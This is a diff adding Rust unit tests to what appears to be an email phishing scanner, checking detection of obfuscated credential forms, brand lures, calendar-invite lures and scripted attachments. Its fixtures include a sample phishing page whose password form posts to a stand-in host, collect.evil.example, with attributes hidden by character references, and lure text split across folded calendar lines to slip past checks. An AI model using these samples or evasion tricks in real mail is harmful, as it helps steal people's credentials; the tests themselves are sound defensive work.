@@ -82,6 +82,28 @@ fn a_form_written_by_script_from_escapes_is_seen() {
     assert!(tags(&found).contains(&"attachment-obfuscated-script"), "{found:#?}");
 }
 
+/// Attributes written with character references are read as a browser reads
+/// them (the view's tokenizer): the password field and where it posts are seen.
+#[test]
+fn a_password_field_written_with_character_references_is_seen() {
+    let page = r#"<html><body><form method="post" action="https&#58;&#47;&#47;collect.evil.example/p.php">
+<input name="login"><input name="pw" type="pass&#119;ord"><button>Sign in</button></form></body></html>"#;
+    let raw = with_attachment(
+        "Payroll <pay@mailer.example>",
+        "Salary statement",
+        "See the attached statement.",
+        "Statement.html",
+        "application/octet-stream",
+        page.as_bytes(),
+    );
+    let found = scan(&raw);
+    let f = found
+        .iter()
+        .find(|f| f.tag == "credential-form-attachment")
+        .unwrap_or_else(|| panic!("{found:#?}"));
+    assert!(f.reason.contains("collect.evil.example"), "{f:?}");
+}
+
 #[test]
 fn a_login_form_of_the_senders_own_site_in_a_body_is_only_a_form() {
     let html =
@@ -296,4 +318,87 @@ and you will be named next of kin and beneficiary. Keep this strictly confidenti
     let estate = "From: Lawyer <l@firm.example>\r\nTo: anna@contoso.com\r\nSubject: Estate\r\n\r\n\
 You are a beneficiary of your aunt's estate; the papers are attached.\r\n";
     assert!(!tags(&scan(estate)).contains(&"advance-fee"));
+}
+
+/// A brand named in the subject or opening text counts only with a lure and
+/// somewhere to go that is not the brand's; a mention alone is news.
+#[test]
+fn a_brand_claimed_in_the_text_needs_a_lure() {
+    let found = scan(&html_mail(
+        "Accounts <billing@invoices-mail.example>",
+        "Your PayPal account",
+        "<p>Your PayPal account has been suspended. Action required: \
+<a href=\"https://secure-review.example/restore\">restore access</a></p>",
+    ));
+    let t = tags(&found);
+    assert!(t.contains(&"brand-lure") && t.contains(&"lure"), "{found:#?}");
+    let f = found.iter().find(|f| f.tag == "brand-lure").unwrap();
+    assert!(
+        f.reason.contains("PayPal") && f.reason.contains("invoices-mail.example"),
+        "{f:?}"
+    );
+    let mention = scan(&html_mail(
+        "Shop <orders@shop.example>",
+        "Your order",
+        "<p>Thanks for paying with PayPal. <a href=\"https://shop.example/order/1\">Your order</a></p>",
+    ));
+    assert!(mention.is_empty(), "{mention:#?}");
+}
+
+/// An attached page that only runs script is the weakest activity; a body's
+/// script is never judged (mail clients do not run it).
+#[test]
+fn script_in_an_attached_page_and_in_a_body() {
+    let page = b"<html><body><p>Statement</p><script>var total = 12;</script></body></html>";
+    let raw = with_attachment(
+        "Shop <orders@shop.example>",
+        "Statement",
+        "Attached.",
+        "statement.html",
+        "text/html",
+        page,
+    );
+    assert_eq!(tags(&scan(&raw)), ["attachment-script"], "{:#?}", scan(&raw));
+    let body = scan(&html_mail(
+        "Shop <orders@shop.example>",
+        "Statement",
+        "<p>Statement</p><script>var total = 12;</script>",
+    ));
+    assert!(body.is_empty(), "{body:#?}");
+}
+
+/// A calendar invitation is read like the message (its folded lines joined):
+/// lure wording split over its lines still counts.
+#[test]
+fn an_invitation_carries_its_lure() {
+    let ics = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Security review\r\n\
+DESCRIPTION:Verify your acc\r\n ount within 24\r\n  hours or it will be closed.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
+    let raw = with_attachment(
+        "Calendar <meet@invites.example>",
+        "Meeting",
+        "See the invitation.",
+        "invite.ics",
+        "text/calendar",
+        ics.as_bytes(),
+    );
+    let found = scan(&raw);
+    let lure = found
+        .iter()
+        .find(|f| f.tag == "lure")
+        .unwrap_or_else(|| panic!("{found:#?}"));
+    assert!(
+        lure.reason.contains("verify your account") && lure.reason.contains("within 24 hours"),
+        "{lure:?}"
+    );
+}
+
+/// A named HTML body part is also an attachment (the view reads it as both):
+/// it is judged once, as the page a reader opens.
+#[test]
+fn a_named_html_body_is_judged_once_as_an_attached_page() {
+    let raw = "From: IT <it@mailer.example>\r\nTo: anna@contoso.com\r\nSubject: Doc\r\nMIME-Version: 1.0\r\n\
+Content-Type: text/html; charset=utf-8; name=\"Doc.html\"\r\n\r\n\
+<form action=\"https://www.mailer.example/login\"><input type=password></form>\r\n";
+    let found = scan(raw);
+    assert_eq!(tags(&found), ["credential-form-attachment"], "{found:#?}");
 }
